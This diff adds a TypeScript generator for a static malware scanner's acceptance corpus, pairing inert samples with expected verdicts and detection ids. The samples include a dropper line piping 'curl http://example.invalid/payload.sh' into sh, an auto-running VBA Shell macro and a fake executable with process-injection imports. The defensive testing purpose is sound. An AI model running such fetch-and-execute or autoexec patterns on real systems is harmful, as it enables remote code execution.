@@ -1,0 +1,126 @@
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { makeZip } from './containers';
+import { cleanPdf, eicar, javascriptPdf, makeDocx, makePe } from './documents';
+import { python } from './engine';
+
+/**
+ * The static engine's acceptance corpus, generated into a directory: every sample is inert (the
+ * EICAR string, a macro that would echo, a PDF that would alert, a PE whose entry is `ret`, a
+ * dropper script whose URL is `.invalid`), and nothing here is committed as a file.
+ */
+
+/** A dropper script: downloads from a name that cannot resolve and pipes it into a shell. */
+export const DROPPER = '#!/bin/sh\ncurl -fsSL http://example.invalid/payload.sh | sh\n';
+/** A VBA macro that runs on open and calls Shell (with an echo). */
+export const MACRO = 'Sub AutoOpen()\n    Shell "cmd.exe /c echo sandtrap-test"\nEnd Sub\n';
+
+/** AES zips need pyzipper (Node has no AES zip writer): written by the venv's Python. */
+const AES_ZIP = `
+import sys, pyzipper
+path, password, name, data = sys.argv[1], sys.argv[2].encode(), sys.argv[3], sys.argv[4]
+with pyzipper.AESZipFile(path, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as archive:
+    archive.setpassword(password)
+    archive.writestr(name, data)
+`;
+
+/** Writes a WinZip-AES zip holding one member, through the static engine's venv. */
+export function writeAesZip(path: string, password: string, member: string, data: string): string {
+  python(AES_ZIP, [path, password, member, data]);
+  return path;
+}
+
+/** A copy of /bin/true carrying UPX's markers (no UPX in this Debian mirror to pack a real one). */
+export function upxMarkedElf(): Buffer {
+  return Buffer.concat([
+    readFileSync('/bin/true'),
+    Buffer.from('UPX!\0\0\0\0$Info: This file is packed with the UPX executable packer $\0', 'latin1'),
+  ]);
+}
+
+/** One corpus file and what the pipeline must conclude about it. */
+export interface CorpusSample {
+  name: string;
+  path: string;
+  verdict: 'benign' | 'suspicious' | 'malicious';
+  /** Threat names the verdict must carry (exactly these). */
+  threats: string[];
+  /** Finding ids the static report must hold. */
+  findings: string[];
+}
+
+/** Writes the acceptance corpus into `dir`. */
+export function writeCorpus(dir: string): CorpusSample[] {
+  const at = (name: string, data: Buffer | string) => {
+    writeFileSync(join(dir, name), data);
+    return join(dir, name);
+  };
+  const dropperZip = makeZip([{ name: 'dropper.sh', data: DROPPER, deflate: true }]);
+  let nested = makeZip([{ name: 'notes.txt', data: 'quarterly numbers\n' }]);
+  for (let level = 2; level >= 1; level--) nested = makeZip([{ name: `level${level}.zip`, data: nested }]);
+  let nestedDropper = dropperZip;
+  for (let level = 2; level >= 1; level--)
+    nestedDropper = makeZip([{ name: `level${level}.zip`, data: nestedDropper }]);
+  return [
+    {
+      name: 'eicar.com',
+      data: eicar(),
+      verdict: 'malicious',
+      threats: ['EICAR-Test-File'],
+      findings: ['yara.eicar_test_file'],
+    },
+    {
+      name: 'invoice.docm',
+      data: makeDocx({ macro: { module: 'Module1', source: MACRO } }),
+      verdict: 'malicious',
+      threats: ['Heuristic.Office.AutoExecMacro'],
+      findings: ['office.macros', 'office.autoexec', 'office.suspicious'],
+    },
+    { name: 'letter.docx', data: makeDocx(), verdict: 'benign', threats: [], findings: [] },
+    {
+      name: 'form.pdf',
+      data: javascriptPdf(),
+      verdict: 'suspicious',
+      threats: ['Heuristic.PDF.AutoJavaScript'],
+      findings: ['pdf.javascript', 'pdf.auto-javascript'],
+    },
+    { name: 'paper.pdf', data: cleanPdf(), verdict: 'benign', threats: [], findings: [] },
+    {
+      name: 'injector.exe',
+      data: makePe({
+        'KERNEL32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread', 'ExitProcess'],
+        'urlmon.dll': ['URLDownloadToFileA'],
+      }),
+      verdict: 'malicious',
+      threats: ['Heuristic.PE.ProcessInjection'],
+      findings: ['pe.injection-imports', 'pe.download-imports'],
+    },
+    {
+      name: 'hello.exe',
+      data: makePe({ 'KERNEL32.dll': ['GetStdHandle', 'WriteFile', 'ExitProcess'] }, { plain: true }),
+      verdict: 'benign',
+      threats: [],
+      findings: [],
+    },
+    { name: 'packed.elf', data: upxMarkedElf(), verdict: 'suspicious', threats: [], findings: ['elf.packed'] },
+    { name: 'nested.zip', data: nested, verdict: 'benign', threats: [], findings: [] },
+    {
+      name: 'nested-dropper.zip',
+      data: nestedDropper,
+      verdict: 'malicious',
+      threats: ['Heuristic.Script.DownloadExec'],
+      findings: ['script.download-exec'],
+    },
+    { name: 'empty.bin', data: '', verdict: 'benign', threats: [], findings: [] },
+  ]
+    .map(({ data, ...sample }) => ({ ...sample, path: at(sample.name, data) }) as CorpusSample)
+    .concat([
+      {
+        name: 'infected.zip',
+        path: writeAesZip(join(dir, 'infected.zip'), 'infected', 'dropper.sh', DROPPER),
+        verdict: 'malicious',
+        threats: ['Heuristic.Script.DownloadExec'],
+        findings: ['archive.customary-password', 'script.download-exec'],
+      },
+    ]);
+}
